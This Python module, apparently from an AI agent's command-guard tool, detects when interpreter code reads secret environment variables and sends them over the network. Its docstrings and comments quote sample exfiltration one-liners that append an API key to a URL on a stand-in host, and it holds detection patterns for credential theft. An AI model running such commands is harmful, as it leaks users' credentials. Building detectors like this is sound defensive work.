"""Secret environment variables read by interpreter code, and whether the code sends them.

A one-liner such as `python -c "...urlopen('https://x/?k=' + os.environ['OPENAI_API_KEY'])"`
exfiltrates a credential without any shell variable the shell-level secret tracking
(`crustcore_nano.shell.leaks`) could see: the interpreter reads its own environment. This
module finds those reads and pairs them with the network evidence the interpreter scan
(`crustcore_nano.shell.interp.scan_code`) already collects. The rule is deliberately simple
and linear:

* **Reads.** `os.environ[...]`, `os.environ.get(...)`, `getenv(...)` (Python, PHP, Lua, C,
  Java), `process.env.X` / `process.env[...]` (Node, Bun), `Deno.env.get(...)`, `ENV[...]` /
  `ENV.fetch(...)` (Ruby), `$ENV{...}` (Perl), `$_ENV[...]`, `ENVIRON[...]` (awk). A literal
  name is judged by `is_secret_name`; a computed name (`os.environ[k]`) or the whole
  environment (`dict(os.environ)`, `JSON.stringify(process.env)`, `%ENV`) may hold every
  secret and counts as one. A membership test (`'X' in os.environ`, `ENV.key?`) or the
  environment handed on to a child process (`env=os.environ`) reads no value.
* **Sending.** Code that holds a secret *and* can reach the network (a network API or a URL /
  host literal that is not loopback, or a network client it runs through the shell) sends
  it. Where exactly the value goes inside the code is beyond a static scan, so the one case
  told apart is a credential slot: the read sits right after an `Authorization`/`Bearer`/
  `api_key=`/`token=`-style marker in the same statement, with no URL in between. That is the
  agent testing an API key, which deserves a question rather than a denial
  (`SecretUse.CREDENTIAL`); anything else is exfiltration (`SecretUse.SENT`).
* **No network.** A secret read with no network evidence (`assert os.environ.get('KEY')`,
  or an SDK such as `openai.api_key = os.environ['OPENAI_API_KEY']` that talks to its own
  service) is `SecretUse.HELD`: allowed, but the program's output may carry the value, so the
  analyser marks it as secret for whatever reads it next (`| curl -d @- ...`).

Only code that contains an environment spelling (`env`, `ENV`, `Getenv`) or that was handed
a secret by the shell pays for more than one substring test.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from crustcore_nano.shell.facts import NetworkTarget
from crustcore_nano.shell.secretvars import is_secret_name

__all__ = ["EnvRead", "SecretUse", "code_secret_use", "env_reads"]

_NAME_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_")
_QUOTE_CHARS = "'\"`"
_MAX_NAME = 128
_CLOSERS = frozenset("])},")


class SecretUse(enum.Enum):
    """What interpreter code does with the secret values it holds."""

    NONE = "none"
    """No secret value is read or handed to the code."""
    HELD = "held"
    """A secret is read but the code reaches no network: only its output may carry it."""
    CREDENTIAL = "credential"
    """A secret goes into a credential slot of a request (ask: the host is not checked)."""
    SENT = "sent"
    """A secret is read by code that talks to the network: exfiltration."""


@dataclass(frozen=True, slots=True)
class EnvRead:
    """One read of the environment in code: `name` is None for the whole environment or a
    name computed at run time; `start` is where the access expression begins."""

    name: str | None
    start: int


# Access spellings: what follows the spelling decides which key is read.
_SPELLINGS: tuple[tuple[str, bool], ...] = (
    # (spelling, whether a `.NAME` after it names the variable)
    ("environb", False),
    ("environ", False),
    ("getenvb", False),
    ("getenv", False),
    ("process['env']", True),
    ('process["env"]', True),
    ("Getenv", False),
    ("process.env", True),
    ("Bun.env", True),
    ("import.meta.env", True),
    ("Deno.env", False),
    ("ENVIRON", False),
    ("ENV", False),
)
_KEY_METHODS = ("get", "fetch", "setdefault", "pop", "__getitem__", "[]", "values_at", "dig")
_NO_VALUE_METHODS = ("keys", "key?", "has_key?", "include?", "member?", "has", "__contains__")


def _skip_spaces(code: str, i: int) -> int:
    n = len(code)
    while i < n and code[i] in " \t":
        i += 1
    return i


def _key(code: str, i: int, perl_brace: bool) -> str | None:
    """The literal variable name at `i` (after an opener), or None when it is computed."""
    i = _skip_spaces(code, i)
    n = len(code)
    if i + 1 < n and code[i] in "bBuUrR" and code[i + 1] in _QUOTE_CHARS:
        i += 1  # `b'KEY'` (os.environb), `u'KEY'`
    if i < n and code[i] in _QUOTE_CHARS:
        quote = code[i]
        j = i + 1
        while j < n and j - i <= _MAX_NAME and code[j] in _NAME_CHARS:
            j += 1
        if j >= n or code[j] != quote or j == i + 1:
            return None
        k = _skip_spaces(code, j + 1)
        if k < n and code[k] not in _CLOSERS:
            return None  # `['OPENAI_' + 'API_KEY']`: built at run time
        return code[i + 1 : j]
    if perl_brace:  # `$ENV{GITHUB_TOKEN}`
        j = i
        while j < n and j - i <= _MAX_NAME and code[j] in _NAME_CHARS:
            j += 1
        k = _skip_spaces(code, j)
        if j > i and k < n and code[k] == "}":
            return code[i:j]
    return None


def _read_at(code: str, at: int, spelling: str, dotted: bool) -> EnvRead | bool | None:
    """Classify the access at `at`: an EnvRead; False for no value read (a membership test,
    the environment handed to a child); True for an import that may alias it; None for no
    access at all."""
    end = at + len(spelling)
    n = len(code)
    before = code[at - 1] if at > 0 else ""
    if before in _NAME_CHARS and not (spelling == "ENV" and code[max(0, at - 2) : at] == "$_"):
        return None  # `NODE_ENV`, `myenviron`
    if end < n and code[end] in _NAME_CHARS:
        return None  # `ENVIRONMENT`, `environb`
    if before and before in _QUOTE_CHARS and end < n and code[end] in _QUOTE_CHARS:
        return None  # the literal `'ENV'`, not an access
    i = _skip_spaces(code, end)
    nxt = code[i] if i < n else ""
    if nxt in ("[", "(") or (nxt == "{" and spelling == "ENV"):
        if nxt == "(" and code[_skip_spaces(code, i + 1) : _skip_spaces(code, i + 1) + 1] == ")":
            return EnvRead(None, at)  # PHP `getenv()`: the whole environment
        return EnvRead(_key(code, i + 1, nxt == "{"), at)
    if nxt == "." or code.startswith("?.", i):
        j = i + (2 if nxt == "?" else 1)
        k = j
        while k < n and k - j <= _MAX_NAME and (code[k] in _NAME_CHARS or code[k] in "?[]"):
            k += 1
        word = code[j:k]
        if word in _NO_VALUE_METHODS:
            return False
        if word in _KEY_METHODS or word.rstrip("?") in _KEY_METHODS:
            p = _skip_spaces(code, k)
            if p < n and code[p] in "([":
                return EnvRead(_key(code, p + 1, False), at)
            return EnvRead(None, at)
        if dotted and word and all(c in _NAME_CHARS for c in word):
            return EnvRead(word, at)
        return EnvRead(None, at)  # `.items()`, `.copy()`, `.to_h`, `.toObject()`
    # A bare mention: the whole environment, unless it is only tested or handed on.
    head = code[max(0, at - 24) : at].rstrip(" \t({*.%$")
    if spelling == "environ" and head.endswith("os"):
        head = head[:-2].rstrip(" \t({*.%$")
    if head.endswith((" import", "import")):
        return True
    if head.endswith((" in", "env=", "env:", "env =", "env :", "keys")):
        return False
    return EnvRead(None, at)


_UPPER_NAME_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_")
# Ways to reach the environment under another name (`from os import environ as e` is found
# by its spelling; these hold no spelling `_read_at` classifies).
_ALIASES = (
    "require('process')", 'require("process")', "node:process", "from 'process'",
    'from "process"', "getattr(os", "vars(os", "os.__dict__",
)  # fmt: skip


def _named_words(code: str) -> list[EnvRead]:
    """Upper-case words that are a secret variable's name (`'OPENAI_API_KEY'`, `.NPM_TOKEN`):
    in code that reaches the environment under an alias, these are what it reads. One pass."""
    out: list[EnvRead] = []
    n = len(code)
    i = 0
    while i < n:
        if code[i] not in _NAME_CHARS:
            i += 1
            continue
        j = i
        upper = True
        while j < n and code[j] in _NAME_CHARS:
            upper = upper and code[j] in _UPPER_NAME_CHARS
            j += 1
        word = code[i:j]
        if upper and j - i <= _MAX_NAME and not word[0].isdigit() and is_secret_name(word):
            out.append(EnvRead(word, i))
        i = j
    return out


def env_reads(code: str) -> tuple[EnvRead, ...]:
    """Every environment read in `code`, in order of position (one `find` loop per spelling).

    Code that mentions the environment at all (even only in `from os import environ as e`
    or `getattr(os, 'environ')`) is also taken to read every secret whose name it quotes
    (`e['OPENAI_API_KEY']`): an alias cannot hide which variable is meant."""
    if "env" not in code and "ENV" not in code and "Getenv" not in code:
        return ()
    found: dict[int, EnvRead] = {}
    taken: set[int] = set()
    mentioned = False
    for spelling, dotted in _SPELLINGS:
        at = code.find(spelling)
        while at >= 0:
            if at not in taken:
                read = _read_at(code, at, spelling, dotted)
                if read is not None:
                    taken.update(range(at, at + len(spelling)))
                    if isinstance(read, EnvRead):
                        found[at] = read
                    elif read:
                        mentioned = True
                elif spelling in ("environ", "getenv", "ENV"):
                    mentioned = mentioned or (at > 0 and code[at - 1] in _QUOTE_CHARS)
            at = code.find(spelling, at + len(spelling))
    if mentioned or any(alias in code for alias in _ALIASES):
        seen = {r.name for r in found.values()}
        for read in _named_words(code):
            if read.name not in seen:
                seen.add(read.name)
                found.setdefault(read.start, read)
    return tuple(found[k] for k in sorted(found))


def _is_loopback(host: str) -> bool:
    lowered = host.lower().strip("[]")
    return (
        lowered in ("localhost", "::1", "0.0.0.0", "ip6-localhost")  # noqa: S104 - a host name
        or lowered.endswith(".localhost")
        or lowered.startswith("127.")
    )


# Networking the interpreter scan does not list (module names as Node requires them, name
# lookups that carry data in the name itself); consulted only for code that holds a secret.
_MORE_NETWORK = (
    "'http'", '"http"', "'https'", '"https"', "'net'", '"net"', "'tls'", '"tls"', "'dns'",
    '"dns"', "'http2'", '"http2"', "node:http", "node:net", "node:tls", "node:dns", "Net::",
    "gethostbyname", "getaddrinfo", "dns_get_record", "Resolv", "dns.resolver",
)  # fmt: skip

# Markers that put the value right after them into a credential slot of a request.
_CREDENTIAL_MARKERS = (
    "authorization", "bearer", "x-api-key", "api-key", "apikey", "api_key", "private-token",
    "auth=", "auth:", "auth =", "token=", "token:", "token =", "password=", "password:",
    "passwd=", "cookie", "x-auth", "access_token=", "login(",
)  # fmt: skip
_CREDENTIAL_WINDOW = 64
"""How far before a secret read its credential marker may be."""


def _credential_slot(code: str, start: int) -> bool:
    """Whether the read at `start` follows a credential marker in the same statement, with no
    URL between the marker and the read (`'?authorization=' + SECRET` is a URL part)."""
    window = code[max(0, start - _CREDENTIAL_WINDOW) : start]
    cut = max(window.rfind(";"), window.rfind("\n"))
    window = window[cut + 1 :].lower()
    best = -1
    for marker in _CREDENTIAL_MARKERS:
        best = max(best, window.rfind(marker))
    if best < 0:
        return False
    url = window.rfind("://", 0, best)
    if url >= 0 and not any(q in window[url:best] for q in _QUOTE_CHARS):
        return False  # the marker is inside a URL literal: `'https://x/?auth=' + SECRET`
    between = window[best:]
    return "://" not in between and "?" not in between and "&" not in between


_URL_SUFFIXES = ("_URL", "_URI", "WEBHOOK", "_DSN", "_ENDPOINT")


def _credential_use(code: str, read: EnvRead) -> bool:
    """A credential slot (`_credential_slot`), or a secret URL that is itself where the
    request goes: `requests.post(os.environ['SLACK_WEBHOOK_URL'], ...)`."""
    if read.name is None:
        return False
    if _credential_slot(code, read.start):
        return True
    if not read.name.upper().endswith(_URL_SUFFIXES):
        return False
    head = code[max(0, read.start - 16) : read.start].rstrip(" \t")
    for prefix in ("os.", "process.", "$", "$_", "Deno."):
        if head.endswith(prefix):
            head = head[: -len(prefix)].rstrip(" \t")
            break
    return head.endswith("(")


def _shell_references(code: str) -> list[EnvRead]:
    """`$NAME` / `${NAME}` of secret variables left in code the shell expanded (their value
    was not known, so the text keeps the reference)."""
    out: list[EnvRead] = []
    at = code.find("$")
    n = len(code)
    while at >= 0:
        start = at + 2 if code.startswith("${", at) else at + 1
        end = start
        while end < n and end - start <= _MAX_NAME and code[end] in _NAME_CHARS:
            end += 1
        if end > start and is_secret_name(code[start:end]):
            out.append(EnvRead(code[start:end], at))
        at = code.find("$", max(end, at + 1))
    return out


def code_secret_use(
    code: str,
    network: tuple[NetworkTarget, ...],
    net_api: bool,
    sink_commands: bool,
    *,
    commands: tuple[str, ...] = (),
    text_secret: bool = False,
    input_secret: bool = False,
) -> tuple[SecretUse, str]:
    """What `code` does with secrets, and a short reason. `network` holds the destinations its
    scan found, `net_api` says it uses a networking API, `sink_commands` that it runs a
    network client through the shell, `commands` are the shell commands it runs;
    `text_secret` says the shell expanded a secret into the
    code's text, `input_secret` that it passes one in the arguments or on standard input."""
    secret_reads = [r for r in env_reads(code) if r.name is None or is_secret_name(r.name)]
    handed_secret = input_secret
    if text_secret:
        references = _shell_references(code)
        secret_reads.extend(references)
        handed_secret = handed_secret or not references
    if not secret_reads and not handed_secret:
        return SecretUse.NONE, ""
    first = secret_reads[0].name if secret_reads else None
    what = (
        f"reads {first}"
        if first is not None
        else ("reads the environment" if secret_reads else "is handed a secret value")
    )
    remote = [t for t in network if not t.listen and (t.host is None or not _is_loopback(t.host))]
    local_only = bool(network) and not remote
    net_api = net_api or any(word in code for word in _MORE_NETWORK)
    # A command the code runs that names a URL (`exec('open https://x/?k=' + KEY)`).
    sink_commands = sink_commands or any("://" in c for c in commands)
    reaches = bool(remote) or sink_commands or (net_api and not local_only)
    if not reaches:
        return SecretUse.HELD, f"code {what}"
    if secret_reads and not handed_secret and all(_credential_use(code, r) for r in secret_reads):
        return SecretUse.CREDENTIAL, f"code {what} as a request credential"
    return SecretUse.SENT, f"code {what} and talks to the network"
